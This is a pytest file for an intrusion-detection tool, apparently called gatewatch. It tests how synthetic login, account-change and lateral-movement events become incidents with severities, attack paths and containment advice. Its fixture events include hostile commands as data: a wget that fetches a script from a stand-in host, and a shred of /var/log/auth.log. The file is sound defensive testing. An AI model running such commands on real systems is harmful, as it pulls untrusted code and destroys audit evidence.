"""Tests of incidents: from events through the shipped rules and chains to what a responder reads."""

from __future__ import annotations

import hashlib
import json
import random
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from typing import Any

import msgspec
import polars as pl
import pytest

from gatewatch.detect.chain import Chain, Stage
from gatewatch.detect.content import load_content
from gatewatch.detect.incident import EVIDENCE, assemble
from gatewatch.detect.matcher import match
from gatewatch.schema import events as ev
from gatewatch.schema.coverage import Coverage, Gap, Unseen
from gatewatch.schema.incidents import Incident, Match, Severity, StageHit
from gatewatch.site.model import Site

CONTENT = load_content()
SITE = Site.default()
START = datetime(2026, 1, 20, 2, 0, tzinfo=UTC)
BAD, HOME, OTHER = "203.0.113.77", "198.51.100.20", "192.0.2.99"
NEVER = datetime(2026, 3, 1, tzinfo=UTC)

Event = dict[str, Any]


def event(minutes: float, kind: str, **given: Any) -> Event:
    """One event of gate01, minutes after the start; an outside source is its own origin."""
    base: Event = {
        "time": START + timedelta(minutes=minutes),
        "kind": kind,
        "host": "gate01",
        "service": "ssh",
        "count": 1,
        "source": "sshd",
        "pattern": kind,
    }
    if given.get("src_ip"):
        base |= {"origin_ip": given["src_ip"], "hop": 0, "hop_confidence": "certain", "scope": "public"}
    return base | given


def failures(
    number: int, at: float = 0, user: str | None = "deploy", src_ip: str | None = BAD, step: float = 0.1, **given: Any
) -> list[Event]:
    return [event(at + step * n, "auth_failure", user=user, src_ip=src_ip, auth_method="password", **given) for n in range(number)]


def logon(at: float, user: str = "deploy", src_ip: str = BAD, method: str = "password", **given: Any) -> Event:
    session = f"gate01/{user}/{at}"
    return event(
        at, "auth_success", user=user, src_ip=src_ip, auth_method=method, session=f"pid:{at}", **({"origin_session": session} | given)
    )


def inside(at: float, of: Event, kind: str, **given: Any) -> Event:
    """Something that followed in the session of a logon."""
    attached = {name: of[name] for name in ("origin_ip", "origin_session", "user", "session")}
    return event(at, kind, **({"hop": 0, "hop_confidence": "certain"} | attached | given))


def moved(at: float, of: Event, host: str = "db02", **given: Any) -> Event:
    """A logon further in."""
    extra = {"host": host, "hop": 1, "scope": "private", "src_ip": None, "auth_method": "key", "session": f"pid:9{at}"}
    return inside(at, of, "auth_success", **(extra | given)) | {"src_ip": "10.0.0.5"}


def account(at: float, of: Event, name: str = "sysupd", **given: Any) -> Event:
    return inside(at, of, "account_change", pattern="user-created", target_user=name, user=None, source="shadow", **given)


def frame(*given: Event | Sequence[Event]) -> pl.DataFrame:
    flat = [one for item in given for one in ([item] if isinstance(item, dict) else item)]
    flat.sort(key=lambda one: one["time"])
    table = ev.complete(
        pl.DataFrame(flat, schema_overrides={name: ev.DTYPES[name] for one in flat for name in one}, infer_schema_length=None)
    )
    table = table.with_columns(
        pl.lit("gate01:syslog").alias("stream"),
        pl.int_range(pl.len(), dtype=pl.Int64).alias("position"),
        pl.lit("auth.log").alias("file"),
        pl.int_range(1, pl.len() + 1, dtype=pl.Int64).alias("record"),
        pl.lit(0, pl.Int64).alias("offset"),
        pl.lit(timedelta(0), pl.Duration("us")).alias("time_err"),
    )
    return CONTENT.rules.evaluate(table.with_row_index("row"))


def matches_of(events: pl.DataFrame) -> list[tuple[Chain, Match]]:
    found: list[tuple[Chain, Match]] = []
    for chain in CONTENT.chains:

        def number(name: str, analytic: str = chain.analytic) -> float:
            return SITE.number(name, analytic=analytic)

        found += [(chain, hit) for hit in match(chain, events, number)]
    return found


def raw(rows: Sequence[int]) -> dict[int, str]:
    return {row: f"record {row}" for row in rows}


def tell(events: pl.DataFrame, found: list[tuple[Chain, Match]] | None = None, **given: Any) -> list[Incident]:
    options: dict[str, Any] = {
        "site": SITE,
        "coverage": [],
        "unseen": [],
        "raw": raw,
        "zone": "Europe/Berlin",
        "log_end": events["time"].max(),
    }
    return assemble(matches_of(events) if found is None else found, events, **(options | given))


def one(events: pl.DataFrame, **given: Any) -> Incident:
    found = tell(events, **given)
    assert len(found) == 1, [it.verdict for it in found]
    return found[0]


ENTRY = logon(10)
INTRUSION = (failures(41, 1), ENTRY, account(12, ENTRY), moved(20, ENTRY))


def test_nothing_matched_is_no_incident() -> None:
    assert tell(frame(failures(3), logon(10))) == []


def test_the_whole_story() -> None:
    found = one(frame(*INTRUSION))
    assert found.severity is Severity.CRITICAL
    assert found.verdict == (
        "203.0.113.77 guessed the password of deploy on gate01 after 41 failures and got in at 2026-01-20 03:10:00"
        "; then made account 'sysupd', moved on to db02"
    )
    assert [(stage.name, stage.count) for stage in found.stages] == [("guess", 41), ("logon", 1), ("door", 1), ("onward", 1)]
    assert [(hop.source, hop.target, hop.via) for hop in found.path] == [
        (BAD, "gate01", "ssh"),
        ("gate01", "account 'sysupd'", "made account 'sysupd'"),
        ("gate01", "db02", "ssh"),
    ]
    assert (found.origin.ip, found.users, found.hosts, found.failures) == (BAD, ("deploy", "sysupd"), ("gate01", "db02"), 41)
    assert found.accepted == ENTRY["time"]
    assert found.first_seen == START + timedelta(minutes=1)
    assert found.chains == (
        "an1005-guess-logon-onward",
        "an1005-second-door",
        "an1005-slow-guess-logon-onward",
        "an1005-week-guess-logon-onward",
    )
    assert {"T1133", "T1110", "T1021"} <= {technique.id for technique in found.attack}
    assert "Remove or disable account 'sysupd' on gate01: it was made in the session" in found.contain
    assert "Treat db02 as entered: isolate and examine" in found.contain


def test_the_id_is_the_earliest_anchors_content_and_the_others_are_aliases() -> None:
    found = one(frame(*INTRUSION))
    content = ["gate01", "ssh", "deploy", BAD, ENTRY["time"].isoformat()]
    assert found.id == "inc-" + hashlib.sha256(json.dumps(content).encode()).hexdigest()[:12]
    assert len(found.aliases) == 1
    assert one(frame(failures(41, 1), ENTRY)).id == found.id


def test_onward_techniques_are_shown_only_with_onward_movement() -> None:
    found = one(frame(failures(9), logon(10)))
    assert "T1021" not in {technique.id for technique in found.attack}
    assert "no onward movement was seen in the sessions of this incident" in found.near_misses


def test_tags_of_the_rules_that_acts_met_add_techniques() -> None:
    tags = {rule.name: rule.tags for rule in CONTENT.rules.rules}
    found = one(frame(*INTRUSION), tags=tags)
    assert {"T1136.001", "T1021.004"} <= {technique.id for technique in found.attack}
    assert all(technique.id.startswith("T") for technique in found.attack)


def test_the_order_of_matches_changes_nothing() -> None:
    events = frame(*INTRUSION, failures(9, 500, src_ip=OTHER), logon(520, src_ip=OTHER, user="kim"))
    found = matches_of(events)
    wanted = msgspec.json.encode(tell(events, found))
    for seed in range(5):
        random.Random(seed).shuffle(found)
        assert msgspec.json.encode(tell(events, found)) == wanted


def test_an_unrelated_user_changes_nothing() -> None:
    alone = one(frame(*INTRUSION))
    among = one(
        frame(
            *INTRUSION,
            logon(3, user="ann", src_ip=HOME, method="key"),
            failures(2, 30, user="bob", src_ip=HOME),
            logon(31, user="bob", src_ip=HOME),
        )
    )
    assert (among.id, among.verdict, among.severity, among.stages[0].count) == (
        alone.id,
        alone.verdict,
        alone.severity,
        alone.stages[0].count,
    )


def test_settled_failures_prove_nothing() -> None:
    rounds = [part for n in range(6) for part in (*failures(2, 2 * n, user="ann", src_ip=HOME), logon(2 * n + 1, user="ann", src_ip=HOME))]
    assert tell(frame(rounds)) == []


def test_another_users_success_settles_nothing() -> None:
    found = one(frame(failures(4, 0), logon(1, user="ann"), failures(4, 2), logon(5)))
    assert "deploy" in found.users
    assert found.severity is Severity.HIGH


def test_keys_that_were_refused_are_no_guesses() -> None:
    offered = [one_event | {"auth_method": "key"} for one_event in failures(30)]
    assert tell(frame(offered, failures(2, 8), logon(10))) == []


def test_an_origin_within_a_day_is_one_incident_and_later_another() -> None:
    near = frame(failures(9), logon(10), failures(9, 1000), logon(1010))
    far = frame(failures(9), logon(10), failures(9, 4000), logon(4010))
    assert len(tell(near)) == 1
    assert len(tell(far)) == 2


def test_other_origins_are_other_incidents() -> None:
    events = frame(
        [part for n in range(1, 5) for part in (*failures(9, 3 * n, src_ip=f"203.0.113.{n}"), logon(3 * n + 2, src_ip=f"203.0.113.{n}"))]
    )
    assert [it.origin.ip for it in tell(events)] == [f"203.0.113.{n}" for n in range(1, 5)]


def test_the_use_of_a_door_from_elsewhere_joins() -> None:
    found = one(frame(*INTRUSION, logon(3000, user="sysupd", src_ip=OTHER)))
    assert found.origin.others == (OTHER,)
    assert found.verdict.endswith("; later 192.0.2.99 came in as sysupd")
    assert found.stages[-1].name == "use"
    assert f"Block {OTHER} at the outer firewall" in found.contain


def test_what_the_door_led_to_joins_too() -> None:
    use = logon(3000, user="sysupd", src_ip=OTHER)
    found = one(frame(*INTRUSION, use, inside(3005, use, "log_cleared", pattern="log-cleared", command="/usr/bin/shred /var/log/auth.log")))
    assert "act" in {stage.name for stage in found.stages}


def test_a_door_made_at_the_console_is_no_door() -> None:
    made = event(0, "account_change", pattern="user-created", target_user="carl", source="shadow")
    assert tell(frame(made, logon(10, user="carl", src_ip=HOME))) == []


def test_what_a_rival_session_may_have_done_is_shown_and_not_counted() -> None:
    found = one(frame(failures(9), ENTRY, moved(20, ENTRY, hop_confidence="possible")))
    assert found.severity is Severity.HIGH
    assert any("moved on to db02" in line for line in found.near_misses)
    assert "db02" not in found.hosts


def test_an_inner_logon_is_no_entry() -> None:
    assert tell(frame(failures(9), moved(5, logon(-600)) | {"auth_method": "password"})) == []


def test_known_lowers_by_one_and_is_shown() -> None:
    entry = ENTRY | {"known": True, "known_by": "KnownRemoteIPs entry 1"}
    found = one(frame(failures(9, 1), entry, moved(20, entry)))
    assert found.severity is Severity.HIGH
    assert found.origin.known_by == "KnownRemoteIPs entry 1"
    assert ("known source", -1) in {(factor.factor, factor.score) for factor in found.why}
    assert "onward" in {stage.name for stage in found.stages}


def habit(days: int, user: str = "ann") -> list[Event]:
    return [logon(-1440.0 * day, user=user, src_ip=HOME) for day in range(1, days + 1)]


def test_own_failures_of_a_habitual_source_are_low() -> None:
    found = one(frame(habit(5), failures(7, user="ann", src_ip=HOME), logon(2, user="ann", src_ip=HOME)))
    assert (found.severity, found.confidence) == (Severity.LOW, "low")
    assert found.contain[0].startswith("Ask ann whether the logon was theirs")


def test_two_days_are_no_habit() -> None:
    assert one(frame(habit(2), failures(7, user="ann", src_ip=HOME), logon(2, user="ann", src_ip=HOME))).severity is Severity.HIGH


def test_another_name_from_a_habitual_source_is_no_typo() -> None:
    tried = [*failures(6, user="ann", src_ip=HOME), *failures(1, 1, user="root", src_ip=HOME)]
    assert one(frame(habit(5), tried, logon(2, user="ann", src_ip=HOME))).severity is Severity.HIGH


def test_a_guesser_never_becomes_habitual() -> None:
    later = [logon(1440.0 * day) for day in range(1, 6)]
    last = logon(1440.0 * 9)
    found = tell(frame(failures(9, 1), ENTRY, later, last, account(1440.0 * 9 + 5, last)))
    assert [it.severity for it in found] == [Severity.HIGH, Severity.MEDIUM]


def test_typing_errors_of_a_habitual_source_stay_low_whatever_the_user_went_on_to_do() -> None:
    entry = logon(2, user="ann", src_ip=HOME)
    found = one(frame(habit(5), failures(7, user="ann", src_ip=HOME), entry, moved(20, entry)))
    assert (found.severity, found.confidence) == (Severity.LOW, "low")
    assert "onward" in {stage.name for stage in found.stages}
    many = one(frame(habit(5), failures(40, -4, user="ann", src_ip=HOME), entry, moved(20, entry)))
    assert many.severity is Severity.MEDIUM


def test_the_failures_of_others_behind_a_habitual_address_prove_nothing() -> None:
    entry = logon(2, user="ann", src_ip=HOME)
    assert not tell(frame(habit(5), failures(12, user="svc-job", src_ip=HOME), entry, moved(20, entry)))
    assert one(frame(failures(12, user="svc-job", src_ip=HOME), entry, moved(20, entry))).severity is Severity.CRITICAL


def test_the_way_to_the_host_of_a_door_is_no_sequel() -> None:
    entry = logon(0)
    there = moved(2, entry, "app01")
    door = inside(5, entry, "account_change", pattern="user-created", target_user="new", user=None, source="shadow", host="app01")
    assert one(frame(entry, there, door)).severity is Severity.MEDIUM
    assert one(frame(entry, there, door, moved(9, entry, "app01"))).severity is Severity.MEDIUM
    assert one(frame(entry, there, door, moved(9, entry, "db02"))).severity is Severity.HIGH


def test_a_second_factor_passed_at_the_address_speaks_for_the_user_unless_one_was_refused() -> None:
    entry = logon(10)
    passed = idp(0, "mfa_ok", user="deploy", src_ip=BAD, mfa="yes")
    refused = idp(-30, "mfa_denied", user="deploy", src_ip=OTHER, mfa="no")
    assert one(frame(passed, entry, account(15, entry))).severity is Severity.LOW
    assert one(frame(refused, passed, entry, account(15, entry))).severity is Severity.MEDIUM
    assert one(frame(idp(0, "mfa_ok", user="deploy", src_ip=OTHER, mfa="yes"), entry, account(15, entry))).severity is Severity.MEDIUM


def test_a_second_factor_passed_by_the_other_ip_family_speaks_for_the_user_for_ten_minutes_in_the_same_country() -> None:
    entry = logon(10, country="NL")

    def judged(at: float, country: str | None, src_ip: str = "2001:db8:9::1") -> Severity:
        passed = idp(at, "mfa_ok", user="deploy", src_ip=src_ip, mfa="yes", country=country)
        return one(frame(passed, entry, account(15, entry))).severity

    assert judged(3, "NL") is Severity.LOW
    assert judged(-1, "NL") is Severity.MEDIUM  # eleven minutes before
    assert judged(3, "DE") is Severity.MEDIUM
    assert judged(3, None) is Severity.MEDIUM
    assert judged(3, "NL", OTHER) is Severity.MEDIUM  # another address of the same family
    assert judged(12, "NL") is Severity.MEDIUM


def exposed(at: float, **given: Any) -> Event:
    return event(at, "config_change", source="fortigate", object="vpn.ssl.web.portal", user="boss", origin_ip=None, **given)


def test_what_was_opened_is_told_of_its_first_newcomer_alone() -> None:
    first, second = logon(60, user="ann", src_ip=OTHER), logon(90, user="bob", src_ip="203.0.113.5")
    old = logon(30, user="cleo", src_ip=HOME)
    came = [inside(at + 1, one, "exec", command="/usr/bin/wget http://192.0.2.9/a.sh") for at, one in ((30, old), (60, first), (90, second))]
    found = tell(frame(logon(-10, user="cleo", src_ip=HOME), exposed(0), old, first, second, came))
    assert [(it.chain, it.origin.ip) for it in found] == [("an1005-exposure-opened", OTHER)]


@pytest.mark.parametrize(("known", "count"), [(False, 1), (True, 0)])
def test_a_grave_act_is_an_incident_only_where_the_source_is_not_known(known: bool, count: int) -> None:
    entry = logon(0) | {"known": known}
    found = tell(frame(entry, inside(5, entry, "log_cleared", pattern="log-cleared", command="/usr/bin/shred /var/log/auth.log")))
    assert [it.severity for it in found] == [Severity.MEDIUM] * count


def test_evidence_is_short_and_holds_both_ends() -> None:
    asked: list[list[int]] = []

    def fetch(rows: Sequence[int]) -> dict[int, str]:
        asked.append(list(rows))
        return raw(rows)

    found = one(frame(*INTRUSION), raw=fetch)
    guess = found.stages[0]
    assert len(guess.evidence) == EVIDENCE
    assert [guess.evidence[0].raw, guess.evidence[-1].raw] == ["record 0", "record 40"]
    assert all(len(stage.evidence) <= EVIDENCE for stage in found.stages)
    assert len(asked) == 1
    assert asked[0] == sorted(set(asked[0]))


def sessions(closed: bool) -> pl.DataFrame:
    end = START + timedelta(minutes=60)
    return pl.DataFrame(
        [
            {
                "origin_session": ENTRY["origin_session"],
                "host": "gate01",
                "user": "deploy",
                "start": ENTRY["time"],
                "end": end if closed else None,
                "closed": closed,
            }
        ],
        schema_overrides={"end": pl.Datetime("us", "UTC")},
    )


@pytest.mark.parametrize(
    ("table", "log_end", "wanted"),
    [
        (None, None, None),
        (sessions(True), None, False),
        (sessions(False), START + timedelta(hours=2), True),
        (sessions(False), NEVER, None),
    ],
)
def test_still_open(table: pl.DataFrame | None, log_end: datetime | None, wanted: bool | None) -> None:
    found = one(frame(*INTRUSION), sessions=table, log_end=log_end)
    assert found.open is wanted
    assert ("End the session of deploy on gate01; it was not seen to end" in found.contain) == bool(wanted)


def test_coverage_and_blind_spots_are_those_of_its_hosts() -> None:
    gap = Gap(START, START + timedelta(hours=13))
    rows = [Coverage("sshd", host, f"{host}:syslog", START, NEVER, "UTC", "absolute", 7, (gap,)) for host in ("gate01", "web9")]
    dark = [Unseen("gate01: commands run without sudo", "no audit log", "ausearch"), Unseen("web9: logons", "no log", "cp")]
    found = one(frame(*INTRUSION), coverage=rows, unseen=dark)
    assert found.coverage == (
        "gate01: sshd from 2026-01-20 03:00:00 to 2026-03-01 01:00:00, 7 events; silent 2026-01-20 03:00:00 to 2026-01-20 16:00:00",
    )
    assert found.blind_spots[0] == "gate01: commands run without sudo: no audit log; collect it with: ausearch"
    assert not any("web9" in line for line in found.blind_spots)


def test_moves_say_what_was_done_and_whether_a_second_factor_was_asked_for() -> None:
    found = one(frame(failures(9), ENTRY | {"mfa": "no", "dst_port": 22}))
    assert [(it.stage, it.kind, it.count) for it in found.moves] == [("guess", "auth_failure", 9), ("logon", "auth_success", 1)]
    logon = found.moves[1]
    assert (logon.user, logon.host, logon.mfa, logon.outside, logon.dst_port) == ("deploy", "gate01", "no", True, 22)
    assert logon.rules


def test_a_move_names_the_door_of_a_gateway_and_masks_secrets() -> None:
    door = ENTRY | {"service": "vpn", "extra": '{"realm": "Staff", "group": "x"}'}
    assert one(frame(failures(9), door)).moves[-1].door == "Staff"
    for extra in ('{"realm": 7}', '["realm"]', "no json", None):
        assert one(frame(failures(9), door | {"extra": extra})).moves[-1].door is None
    assert one(frame(failures(9), ENTRY | {"extra": '{"realm": "Staff"}'})).moves[-1].door is None  # of gateways only


def test_the_gravest_comes_first_and_then_the_earliest() -> None:
    low = [*habit(5), *failures(7, user="ann", src_ip=HOME), logon(2, user="ann", src_ip=HOME)]
    second = [*failures(9, 300, src_ip=OTHER, user="kim"), logon(310, src_ip=OTHER, user="kim")]
    found = tell(frame(low, second, *INTRUSION))
    assert [str(it.severity) for it in found] == ["critical", "high", "low"]


def test_a_chain_of_the_sites_own_stands_with_the_severity_it_declares() -> None:
    chain = Chain(
        "site-watched",
        "A watched account came in",
        ("user",),
        (Stage("entry", ("any-success",), anchor=True),),
        {"entry": Severity.HIGH},
        "because",
    )
    hit = StageHit("entry", (0,), 1, START, START)
    found = tell(frame(logon(0)), [(chain, Match(chain.id, (("user", "deploy"),), 0, (hit,)))])[0]
    assert (found.severity, found.chain, found.title) == (Severity.HIGH, "site-watched", "A watched account came in")


def test_hostile_text_stays_text() -> None:
    entry = logon(10, user="{host}")
    found = one(frame(failures(9, user="{host}"), entry, account(12, entry, name="{what}{0}")))
    assert "made account '{what}{0}'" in found.verdict


def idp(at: float, kind: str, **given: Any) -> Event:
    """An event of an identity provider, without a session of its own."""
    base: Event = {"host": "okta", "service": "idp", "source": "okta"}
    return event(at, kind, **(base | given))


def reason(found: Incident, factor: str) -> str:
    return next((it.note for it in found.why if it.factor == factor and it.score), "")


def test_an_account_that_was_shut_out_says_so_when_it_comes_in() -> None:
    shut = event(-3 * 24 * 60, "account_change", pattern="user-disabled", target_user="deploy", user="ann")
    assert reason(one(frame(shut, *INTRUSION)), "evicted account") == "disabled, locked or deleted 3 days before"
    old = event(-100 * 24 * 60, "account_change", pattern="user-disabled", target_user="deploy", user="ann")
    other = event(-60, "account_change", pattern="user-disabled", target_user="bob", user="ann")
    after = event(60, "account_change", pattern="user-disabled", target_user="deploy", user="ann")
    assert not reason(one(frame(old, other, *INTRUSION, after)), "evicted account")
    back = event(-24 * 60, "account_change", pattern="user-enabled", target_user="deploy", user="ann")
    assert not reason(one(frame(shut, back, *INTRUSION)), "evicted account")
    again = event(60, "account_change", pattern="user-enabled", target_user="deploy", user="ann")
    assert reason(one(frame(shut, *INTRUSION, again)), "evicted account")


def test_a_logon_out_of_reach_of_the_next_one_is_impossible_travel() -> None:
    owner = logon(70, src_ip=HOME, country="DE")
    entry = logon(10, country="AU")
    found = one(frame(failures(41, 1, country="AU"), entry, moved(20, entry), owner))
    assert reason(found, "impossible travel").startswith("DE (198.51.100.20) 60 minutes after")


def test_refusals_then_an_acceptance_are_fatigue_wherever_they_were_asked() -> None:
    asked = [idp(n, "mfa_denied", user="ann", pattern="push-denied") for n in range(6)]  # the provider names no address
    entry = idp(7, "auth_success", user="ann", src_ip=BAD, pattern="session-start")
    found = one(frame(asked, entry))
    assert (found.severity, found.chain) == (Severity.HIGH, "an1005-mfa-fatigue")
    assert found.verdict.startswith("The second factor of ann was refused 6 times, then accepted; 203.0.113.77 got in")
    assert tell(frame(asked[:4], entry)) == []
    assert tell(frame(asked, entry | {"time": START + timedelta(minutes=20)})) == []


def test_what_people_do_to_their_own_account_is_no_door_and_to_anothers_is_one() -> None:
    entry = idp(0, "auth_success", user="ann", src_ip=BAD, pattern="session-start")
    own = idp(5, "account_change", user="ann", target_user="ann", src_ip=BAD, pattern="mfa-method-added")
    assert tell(frame(entry, own)) == []
    assert tell(frame(entry, own | {"target_user": None})) == []
    found = one(frame(entry, own | {"target_user": "bob"}))
    assert (found.severity, found.chain) == (Severity.MEDIUM, "an1005-second-door-console")
    assert "Remove the second factor or device that was registered for 'bob'; end all sessions of the account" in found.contain


def test_a_key_made_for_oneself_is_a_door() -> None:
    made = idp(5, "account_change", user="ann", target_user="ann", src_ip=BAD, pattern="access-key-created", source="cloudtrail", host="aws")
    assert one(frame(made)).severity is Severity.MEDIUM
    assert tell(frame(made | {"known": True, "known_by": "office"})) == []


def test_the_path_holds_the_logons_no_chain_asked_for_and_says_how_sure_they_are() -> None:
    sure = moved(30, ENTRY, "app03")
    later = logon(200, user="mail", host="mail01", origin_session="mail01/mail/200")
    doubtful = moved(40, ENTRY, "app04", hop_confidence="possible")
    found = one(frame(failures(41, 1), ENTRY, sure, doubtful, later, logon(3000, user="late", host="late01")))
    edges = {(hop.target, hop.confidence) for hop in found.path}
    assert {("app03", "certain"), ("app04", "possible"), ("mail01", "certain")} <= edges
    assert "late01" not in {hop.target for hop in found.path}
    assert "mail01" in found.hosts and "app04" not in found.hosts


def test_going_on_with_a_desktop_from_a_second_machine_where_the_user_always_is_is_low_until_it_moves_on() -> None:
    desk = {"host": "rds01", "service": "rdp", "source": "windows-session", "user": "ann"}
    days = [logon(-day * 24 * 60, user="ann", src_ip=HOME, country="DE", host="rds01") for day in range(1, 6)]
    entry = logon(0, user="ann", src_ip=HOME, country="DE", src_host="pc-1", **{key: desk[key] for key in ("host", "service", "source")})

    def seen(at: float, src_ip: str, machine: str, country: str) -> Event:
        extra = {"src_ip": src_ip, "country": country, "src_host": machine, "scope": "public", "session": "0x77"}
        return inside(at, entry, "session_start", **(desk | extra))

    def judged(*given: Event | Sequence[Event]) -> Severity:
        events = frame(*given)
        (found,) = tell(events, [(chain, hit) for chain, hit in matches_of(events) if chain.id == "an1004-session-entered-elsewhere"])
        return found.severity

    back = [seen(1, HOME, "pc-1", "DE"), seen(90, OTHER, "home-2", "DE")]
    assert judged(days, entry, back) is Severity.LOW
    assert judged(days[:1], entry, back) is Severity.MEDIUM  # nothing is known of the user
    assert judged(days, entry, back[:1], seen(90, OTHER, "home-2", "NL")) is Severity.MEDIUM
    assert judged(days, entry, back, moved(95, entry, "app01")) is Severity.MEDIUM
